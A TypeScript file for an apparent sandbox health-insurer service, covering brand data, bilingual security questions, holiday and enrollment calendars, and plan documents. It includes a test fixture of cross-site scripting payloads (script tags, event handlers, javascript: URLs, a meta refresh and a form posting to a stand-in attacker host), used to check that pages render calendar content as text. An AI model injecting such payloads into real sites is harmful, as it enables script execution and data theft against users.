import type { AccreditationDetails, DomainId, MedicareMaterial, SecurityQuestion } from '../../../domain/model';
import { SandboxDay } from '../sandbox-dates';
import type { Language } from '../../../domain/copy/language';

/** Content the sandbox insurer serves to everyone: brands, security questions, calendars, documents. */

export interface BrandFacts {
  readonly insurerName: string;
  readonly customerServicePhone: string;
  readonly dentalServicePhone: string;
  /** Where a member finds consumer assistance about their coverage (printed on ID cards). */
  readonly website: string;
}

/** Names and phones agree with the brand configuration and contact copy of the app (fictional numbers). */
export const BRANDS: Readonly<Record<DomainId, BrandFacts>> = {
  1: { insurerName: 'Cascade Health & Dental', customerServicePhone: '1-800-555-0101', dentalServicePhone: '1-800-555-0102', website: 'www.cascadehealth.example.com/help' },
  2: { insurerName: 'Summit Health', customerServicePhone: '1-800-555-0121', dentalServicePhone: '1-800-555-0121', website: 'www.summithealth.example.com/help' },
  5: { insurerName: 'Providence Health Plan', customerServicePhone: '1-800-555-0150', dentalServicePhone: '1-800-555-0150', website: 'www.providencehealthplan.example.com/help' },
};

/** The security questions, in English; securityQuestionsIn gives them in the member's language. */
export const SECURITY_QUESTIONS: readonly SecurityQuestion[] = [
  { id: 'FIRST_PET', question: 'What was the name of your first pet?' },
  { id: 'BIRTH_CITY', question: 'In what city were you born?' },
  { id: 'FIRST_CAR', question: 'What was the make of your first car?' },
  { id: 'CHILDHOOD_STREET', question: 'What is the name of the street you grew up on?' },
  { id: 'CHILDHOOD_NICKNAME', question: 'What was your childhood nickname?' },
  { id: 'FAVORITE_TEACHER', question: 'What was the last name of your favorite teacher?' },
];

const SECURITY_QUESTIONS_ES: Readonly<Record<string, string>> = {
  FIRST_PET: '¿Cómo se llamaba su primera mascota?',
  BIRTH_CITY: '¿En qué ciudad nació?',
  FIRST_CAR: '¿De qué marca fue su primer auto?',
  CHILDHOOD_STREET: '¿Cómo se llama la calle donde creció?',
  CHILDHOOD_NICKNAME: '¿Cuál era su apodo de niño?',
  FAVORITE_TEACHER: '¿Cuál era el apellido de su maestro favorito?',
};

/** The insurer has its security questions in English and Spanish. */
export function securityQuestionsIn(language: Language): readonly SecurityQuestion[] {
  return language === 'es' ? SECURITY_QUESTIONS.map((question) => ({ ...question, question: SECURITY_QUESTIONS_ES[question.id] ?? question.question })) : SECURITY_QUESTIONS;
}

const COMMUNICATION_POLICY_TEXT: Readonly<Record<Language, string>> = {
  en:
    'By creating an account you agree to receive plan documents, notices and explanations of benefits electronically. ' +
    'We will e-mail you when a new document is available in your Member Dashboard. You can ask for paper copies at no cost ' +
    'at any time by calling Customer Service, and you can change your delivery preferences in Settings.',
  es:
    'Al crear una cuenta, acepta recibir en forma electrónica los documentos del plan, los avisos y las explicaciones de beneficios. ' +
    'Le enviaremos un correo electrónico cuando haya un documento nuevo en su Member Dashboard. Puede pedir copias en papel sin costo ' +
    'en cualquier momento llamando a Servicio al Cliente, y puede cambiar sus preferencias de entrega en Configuración.',
};

/** The digital communications policy a new account accepts, in the member's language. */
export function communicationPolicyIn(language: Language): string {
  return COMMUNICATION_POLICY_TEXT[language];
}

export const ACCREDITATION: AccreditationDetails = {
  logo: 'content/accreditation/seal.svg',
  description: 'Health Plan Accreditation by the National Committee for Quality Assurance (NCQA)',
  url: 'https://reportcards.ncqa.org',
};

/** The accreditation seal, served by the sandbox so the footer has a real image to show. */
export const ACCREDITATION_SEAL_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="96" height="96" viewBox="0 0 96 96" role="img" aria-label="NCQA Health Plan Accreditation">
<circle cx="48" cy="48" r="46" fill="#0b3c5d" stroke="#f2c14e" stroke-width="4"/>
<text x="48" y="44" font-family="Helvetica, Arial, sans-serif" font-size="18" font-weight="700" fill="#ffffff" text-anchor="middle">NCQA</text>
<text x="48" y="62" font-family="Helvetica, Arial, sans-serif" font-size="9" fill="#f2c14e" text-anchor="middle">ACCREDITED</text>
</svg>`;

export const CHAT_HOST = 'chat.cascadehealth.example.com';

interface Holiday {
  readonly name: string;
  readonly date: (year: number) => SandboxDay;
  readonly domains: readonly DomainId[];
  readonly note?: string;
}

const januaryFirst = (year: number): SandboxDay => SandboxDay.of(`${year}-01-01`);

/** A fixed-date holiday falling on a weekend is observed on the Friday before or the Monday after. */
function observed(year: number, month: number, day: number): SandboxDay {
  const date = januaryFirst(year).dayOfYear(month, day);
  if (date.weekday === 6) return date.minus({ days: 1 });
  if (date.weekday === 7) return date.plus({ days: 1 });
  return date;
}

/** The holidays' names and the calendar's words in Spanish, for a member who reads it. */
const SPANISH_HOLIDAYS: Readonly<Record<string, string>> = {
  'New Year’s Day': 'Año Nuevo',
  'Martin Luther King Jr. Day': 'Día de Martin Luther King Jr.',
  'Presidents’ Day': 'Día de los Presidentes',
  'Memorial Day': 'Día de los Caídos',
  Juneteenth: 'Juneteenth',
  'Independence Day': 'Día de la Independencia',
  'Labor Day': 'Día del Trabajo',
  'Thanksgiving Day': 'Día de Acción de Gracias',
  'Day after Thanksgiving': 'Día después de Acción de Gracias',
  'Christmas Eve': 'Nochebuena',
  'Christmas Day': 'Navidad',
  'closing at noon': 'cerramos al mediodía',
};
const CALENDAR_WORDS: Readonly<Record<Language, { readonly heading: string; readonly closed: (insurer: string) => string }>> = {
  en: { heading: 'Holiday schedule', closed: (insurer) => `${insurer} Customer Service is closed on these days:` },
  es: { heading: 'Días feriados', closed: (insurer) => `El Servicio al Cliente de ${insurer} está cerrado estos días:` },
};

const HOLIDAYS: readonly Holiday[] = [
  { name: 'New Year’s Day', date: (y) => observed(y, 1, 1), domains: [1, 2, 5] },
  { name: 'Martin Luther King Jr. Day', date: (y) => januaryFirst(y).nthWeekdayOf(1, 1, 3), domains: [1, 5] },
  { name: 'Presidents’ Day', date: (y) => januaryFirst(y).nthWeekdayOf(2, 1, 3), domains: [2] },
  { name: 'Memorial Day', date: (y) => januaryFirst(y).nthWeekdayOf(5, 1, -1), domains: [1, 2, 5] },
  { name: 'Juneteenth', date: (y) => observed(y, 6, 19), domains: [1, 5] },
  { name: 'Independence Day', date: (y) => observed(y, 7, 4), domains: [1, 2, 5] },
  { name: 'Labor Day', date: (y) => januaryFirst(y).nthWeekdayOf(9, 1, 1), domains: [1, 2, 5] },
  { name: 'Thanksgiving Day', date: (y) => januaryFirst(y).nthWeekdayOf(11, 4, 4), domains: [1, 2, 5] },
  { name: 'Day after Thanksgiving', date: (y) => januaryFirst(y).nthWeekdayOf(11, 4, 4).plus({ days: 1 }), domains: [1, 2, 5] },
  { name: 'Christmas Eve', date: (y) => januaryFirst(y).dayOfYear(12, 24), domains: [5], note: 'closing at noon' },
  { name: 'Christmas Day', date: (y) => observed(y, 12, 25), domains: [1, 2, 5] },
];

const escapeHtml = (text: string): string =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');

/** Office closures of the next twelve months, as the HTML fragment the content service stores, in English or Spanish. */
export function holidayCalendarHtml(domainId: DomainId, today: string, language: Language = 'en'): string {
  const words = (text: string): string => (language === 'es' ? (SPANISH_HOLIDAYS[text] ?? text) : text);
  const day = (date: SandboxDay): string => (language === 'es' ? date.spanishLabel() : `${date.longLabel()}, ${date.year}`);
  const start = SandboxDay.of(today);
  const end = start.plus({ years: 1 });
  const closures = [start.year, start.year + 1]
    .flatMap((year) => HOLIDAYS.filter((holiday) => holiday.domains.includes(domainId)).map((holiday) => ({ holiday, date: holiday.date(year) })))
    .filter(({ date }) => !date.isBefore(start) && date.isBefore(end))
    .sort((a, b) => (a.date.iso < b.date.iso ? -1 : 1));
  const items = closures
    .map(({ holiday, date }) => `<li><strong>${escapeHtml(words(holiday.name))}</strong>: ${escapeHtml(day(date))}${holiday.note === undefined ? '' : ` (${escapeHtml(words(holiday.note))})`}</li>`)
    .join('');
  const calendar = CALENDAR_WORDS[language];
  return `<h3>${calendar.heading}</h3><p>${escapeHtml(calendar.closed(BRANDS[domainId].insurerName))}</p><ul>${items}</ul>`;
}

/** Which holiday calendar the sandbox serves: the real one, or one laced with attacks (sandbox only). */
export type HolidayCalendarVariant = 'standard' | 'hostile';

/**
 * Sandbox only: what a compromised content service might store. Browser tests switch a session to it to
 * prove the contact pages show text only: no script runs, no handler fires, nothing navigates. Each
 * attack would set window.__calendarAttack (or leave the page) if it ever ran.
 */
export const HOSTILE_CALENDAR_HTML = [
  '<script>window.__calendarAttack = "script"</script>',
  '<p onmouseover="window.__calendarAttack = \'handler\'">Hover over this line.</p>',
  '<img src="x-missing.png" onerror="window.__calendarAttack = \'onerror\'" alt="">',
  '<a href="javascript:window.__calendarAttack = \'javascript-url\'" id="calendar-attack-link">Click for holiday hours</a>',
  '<iframe src="javascript:parent.__calendarAttack = \'iframe\'"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example.net/">',
  '<form action="https://attacker.example.net/steal"><button type="submit">Confirm</button></form>',
  '<svg><script>window.__calendarAttack = "svg"</script></svg>',
  '<style>body { display: none }</style>',
].join('');

/** The generic message calendar: the enrollment dates every member may need. */
export function messageCalendarHtml(today: string): string {
  const year = SandboxDay.of(today).year;
  // After the last enrollment period of the year closes, the calendar moves on to next year's dates.
  const upcoming = today > `${year}-12-07` ? year + 1 : year;
  const rows: readonly [string, string][] = [
    ['Medicare Annual Enrollment Period', `October 15 to December 7, ${upcoming}`],
    ['Individual and family plan open enrollment', `November 1, ${upcoming} to January 15, ${upcoming + 1}`],
    ['New plan year for most employer groups', `January 1, ${upcoming + 1}`],
    ['Claims filing limit', 'Within 365 days of the date of service'],
  ];
  const body = rows.map(([what, when]) => `<tr><th scope="row">${escapeHtml(what)}</th><td>${escapeHtml(when)}</td></tr>`).join('');
  return `<h3>Important dates</h3><table><tbody>${body}</tbody></table>`;
}

export interface SandboxDocument {
  readonly slug: string;
  readonly title: string;
  readonly lines: readonly string[];
}

export function outlineOfCoverageDocument(planName: string, classPlanId: string, planYear: number): SandboxDocument {
  return {
    slug: `outline-of-coverage-${classPlanId.toLowerCase()}-${planYear}`,
    title: `Outline of Coverage: ${planName} (${planYear})`,
    lines: [
      'This outline summarizes the benefits of your individual health plan.',
      'It is not the contract: read your member handbook for the full terms, limits and exclusions.',
      'Questions? Call Customer Service at 1-800-555-0101 (TTY 711).',
    ],
  };
}

export function medicareDocuments(today: string): { readonly material: Omit<MedicareMaterial, 'url'>; readonly document: SandboxDocument }[] {
  const year = SandboxDay.of(today).year;
  const make = (id: string, title: string, description: string, materialYear: number) => ({
    material: { id, title, description, year: materialYear },
    document: {
      slug: `medicare-${id.toLowerCase()}`,
      title: `${title} ${materialYear}`,
      lines: [description, 'Cascade Medicare Advantage Plus (PPO). H0000-001.', 'Call 1-800-555-0104 (TTY 711), 8 a.m. to 8 p.m. PT.'],
    },
  });
  return [
    make(`EOC-${year}`, 'Evidence of Coverage', 'Your Medicare health and drug coverage as a member, explained in full.', year),
    make(`SB-${year}`, 'Summary of Benefits', 'Costs and coverage at a glance.', year),
    make(`FORM-${year}`, 'Comprehensive Formulary', 'The drugs your plan covers and their tiers.', year),
    make(`ANOC-${year + 1}`, 'Annual Notice of Change', 'What changes in your plan next year.', year + 1),
  ];
}
